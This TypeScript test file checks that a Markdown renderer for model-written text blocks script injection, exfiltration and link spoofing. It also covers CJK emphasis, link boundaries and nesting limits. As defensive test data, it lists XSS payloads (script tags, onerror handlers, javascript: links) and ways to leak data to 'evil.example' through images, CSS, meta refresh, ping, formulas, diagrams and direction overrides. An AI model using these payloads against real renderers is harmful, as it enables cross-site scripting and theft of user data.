import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import Markdown from './markdown';

const html = (markdown: string) => renderToStaticMarkup(<Markdown>{markdown}</Markdown>);

describe('what a model writes', () => {
  it('loads no image: it is a link to it', () => {
    const rendered = html('![a cat](https://example.com/cat.png?secret=1)');
    expect(rendered).not.toContain('<img');
    expect(rendered).toContain('href="https://example.com/cat.png?secret=1"');
    expect(rendered).toContain('Image: a cat');
  });

  it('makes one link of an image in a link', () => {
    const rendered = html('[![a cat](https://example.com/cat.png)](https://example.com/page)');
    expect(rendered.match(/<a /g)).toHaveLength(1);
    expect(rendered).toContain('href="https://example.com/page"');
  });

  // “(bank.example)” stood there, as if the link led to the place of the image.
  it('says of an image in a link where that leads, and only where the description says otherwise', () => {
    const image = (alt: string) =>
      html(`[![${alt}](https://bank.example/a.png)](https://evil.example/)`).replaceAll(/<[^>]*>/g, '');
    expect(image('Sign in')).toBe('Image: Sign in');
    expect(image('Sign in at bank.example')).toBe('Image: Sign in at bank.example (evil.example)');
  });

  it('takes the description of an image for no part of the word before it', () => {
    expect(html('[bank.example![.evil.example](/a.png)](https://bank.example.evil.example/)')).toContain(
      '(<bdi dir="ltr">bank.example.evil.example</bdi>)',
    );
  });

  it('says of an image alone where it comes from', () => {
    expect(html('![bank.example](https://evil.example/a.png)')).toContain(
      '(<bdi dir="ltr">evil.example</bdi>)',
    );
  });

  // There is nothing of that name on the page, or something that is not the model's.
  it.each(['#usage', '#', '#user-content-fn-1'])('makes no link of one within its text, to %s', (address) => {
    expect(html(`See [below](${address}).`)).not.toContain('<a ');
  });

  it('leads out without a referrer and without weight', () => {
    const rendered = html('[there](https://example.com)');
    expect(rendered).toContain('target="_blank" rel="noopener noreferrer nofollow"');
  });

  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['an image with a handler', '<img src=x onerror="alert(1)">'],
    ['a frame', 'text <iframe src="https://example.com"></iframe> text'],
    ['a form', '<form action="https://example.com"><input></form>'],
  ])('keeps %s as text', (_, markdown) => {
    expect(html(markdown)).not.toMatch(/<(script|img|iframe|form|input)/);
  });

  it.each(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,hello', 'vbscript:x'])(
    'leads nowhere with %s',
    (address) => {
      expect(html(`[click](${address})`)).not.toMatch(/href="[^"]/);
      expect(html(`![picture](${address})`)).not.toMatch(/(href|src)="[^"]/);
    },
  );

  it.each([
    ['an image by reference', '![a][b]\n\n[b]: https://evil.example/?secret'],
    ['an image in a link', '[![a](https://evil.example/?secret)](https://evil.example/)'],
    ['an image with a data address', '![a](data:image/svg+xml,<svg onload=alert(1)>)'],
    ['a picture with several sources', '<img srcset="https://evil.example/a 1x">'],
    ['a style sheet', '<style>@import "https://evil.example/a.css"</style>'],
    ['a style', '<p style="background:url(https://evil.example/)">a</p>'],
    ['a drawing', '<svg><image href="https://evil.example/a"/><script>alert(1)</script></svg>'],
    ['a redirection', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a new base', '<base href="https://evil.example/">'],
    ['a name to look up', '<link rel="dns-prefetch" href="//secret.evil.example">'],
    ['a link that pings', '<a href="https://example.com" ping="https://evil.example/">a</a>'],
    ['a formula with an image', '\\(\\includegraphics{https://evil.example/a.png}\\)'],
    ['a formula with a style', '\\(\\htmlStyle{background:url(https://evil.example/)}{a}\\)'],
    ['a formula with a link', '$$\\href{javascript:alert(1)}{a}$$'],
    ['a formula with an address', '$$\\url{https://evil.example/}$$'],
    ['a diagram', '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```'],
  ])('makes nothing of %s that the browser would load or run', (_, markdown) => {
    const elements = html(markdown).match(/<[a-z][^>]*>/gi) ?? [];
    expect(
      elements.filter((element) => /\s(src|srcset|ping|action|on\w+)=|url\(|script:/i.test(element)),
    ).toEqual([]);
    expect(
      elements.filter((element) =>
        /^<(img|image|script|style|link|meta|base|iframe|object)\b/i.test(element),
      ),
    ).toEqual([]);
  });

  // Chinese, Japanese and Korean have no space there, and showed their asterisks.
  it.each([
    ['**注意：**这是重要的。', '<strong>注意：</strong>这是重要的。'],
    ['これは**「重要」**です。', 'これは<strong>「重要」</strong>です。'],
    ['**한국어(Korean)**은', '<strong>한국어(Korean)</strong>은'],
    ['*注意！*这是', '<em>注意！</em>这是'],
    ['~~删除。~~了', '<del>删除。</del>了'],
    ['~删除。~了', '~删除。~了'],
    ['a**b**c and ~~d~~', 'a<strong>b</strong>c and <del>d</del>'],
    ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
    ['**a.**b', '**a.**b'],
  ])('%j is bold or crossed out where a word is beside', (markdown, inside) => {
    expect(html(markdown)).toContain(`<p dir="auto">${inside}</p>`);
  });

  // The sentence after it was in the address, and even in the name of the host.
  it.each([
    ['详见 https://example.com/docs。更多信息', 'https://example.com/docs', '。更多信息'],
    ['请访问https://example.com，然后点击。', 'https://example.com', '，然后点击。'],
    ['参照（https://example.com/a）してください', 'https://example.com/a', '）してください'],
    ['www.example.com/a。はい', 'www.example.com/a', '。はい'],
    ['- **https://example.com/a！** b', 'https://example.com/a', '！</strong> b'],
    ['https://example.com/wiki/佐々木。', 'https://example.com/wiki/佐々木', '。'],
    // GFM drops the signs around an address before a space only.
    ['(https://openai.com)，然后', 'https://openai.com', ')，然后'],
    ['**https://example.com**。', 'https://example.com', '**。'],
    ['(https://example.com/a_(b)).」', 'https://example.com/a_(b)', ').」'],
  ])('a bare address ends before a sign of Chinese or Japanese: %j', (markdown, address, rest) => {
    const rendered = html(markdown);
    expect(rendered).toContain(`>${address}</a>${rest}`);
    const href = /href="([^"]*)"/.exec(rendered)?.[1] ?? '';
    const expected = new URL(address.startsWith('www.') ? `http://${address}` : address);
    expect(new URL(href).href).toBe(expected.href);
  });

  it.each(['[https://example.com/a。b](https://example.com/a。b)', '<https://example.com/a。b>'])(
    'an address in brackets is left as it was written: %j',
    (markdown) => {
      expect(html(markdown)).toContain('>https://example.com/a。b</a>');
    },
  );

  it('says where a link leads when its text says otherwise', () => {
    expect(html('[https://bank.example](https://evil.example/)')).toContain(
      '(<bdi dir="ltr">evil.example</bdi>)',
    );
  });

  // The override went on after the text: the host was to be read backwards, too.
  it.each([
    '[\u202Emoc.knab](https://evil.example)',
    '![\u202Emoc.knab](https://evil.example)',
    '[![\u202Emoc.knab](a)](https://evil.example)',
  ])('lets no sign of direction in the text of a link reach beyond it: %j', (link) => {
    const rendered = html(link);
    expect(rendered).toContain('<bdi>\u202Emoc.knab</bdi>');
    expect(rendered).not.toContain(' (evil');
  });

  // What stands in a `<bdi>` doesn't count for the side of its paragraph.
  it('reads a paragraph from the side of the link that it begins with', () => {
    expect(html('[א](https://example.com)')).not.toContain('<bdi');
  });

  it('says of the box of a task whether it is done', () => {
    const boxes = html('- [ ] a\n- [x] b').match(/<input[^>]*>/g) ?? [];
    expect(boxes.map((box) => /aria-label="([^"]*)"/.exec(box)?.[1])).toEqual(['Not done', 'Done']);
  });

  // Arabic, Hebrew and Persian were laid out from the left.
  it('is read from the side of its script, each block by itself, and code from the left', () => {
    const rendered = html('# أ\n\nב `npm` \\(x\\)\n\n- پ\n\n  ج\n\n> ד\n\n| ה |\n|---|\n\n```sh\nls\n```');
    const elements = rendered.match(/<(h1|p|ul|li|blockquote|table|td|th|figure|code)\b[^>]*/g) ?? [];
    const directions = elements.map((element) => element.replace(/ (class|style)="[^"]*"/g, ''));
    expect(directions).toEqual([
      '<h1 dir="auto"',
      '<p dir="auto"',
      '<code dir="ltr"',
      '<code dir="ltr"',
      '<ul dir="auto"',
      '<li',
      '<p',
      '<p',
      '<blockquote dir="auto"',
      '<p',
      '<table dir="auto"',
      '<th',
      '<figure dir="ltr"',
      '<code',
    ]);
  });

  it('finds what a link leads to in another block, by a name in other letters', () => {
    const rendered = html('See [The\nthing].\n\n> [b]\n\n[the THING]: https://example.com/a\n[b]: /b\n');
    expect(rendered).toContain('href="https://example.com/a"');
    expect(rendered).not.toContain('>[b]<');
  });

  // Each line was shown again under every block with a bracket.
  it('is shown once where people speak', () => {
    expect(html('[Alice]: Hello there, Bob.\n\n[Bob]: Hi you.').match(/Hello|Hi you/g)).toHaveLength(2);
  });

  // 10,000 signs were parsed for more than a minute, and then overflowed the stack.
  it('shows what is nested as nobody nests as it was written, and the rest as ever', () => {
    const rendered = html(`**a**\n\n${'>'.repeat(10_000)}\n\n> b`);
    expect(rendered).toContain('<strong>a</strong>');
    expect(rendered).toContain(`${'&gt;'.repeat(10_000)}`);
    expect(rendered.match(/<blockquote/g)).toHaveLength(1);
  });

  it('shows what nobody writes in one paragraph as it was written', () => {
    expect(html('**a** '.repeat(3_000))).toMatch(/<strong>a<\/strong>.*\*\*a\*\*<\/p>/s);
  });

  it('shows code as it was written, with its language', () => {
    const rendered = html('```html\n<b>bold</b>\n```');
    expect(rendered).toContain('&lt;b&gt;bold&lt;/b&gt;');
    expect(rendered).toContain('>html<');
  });
});
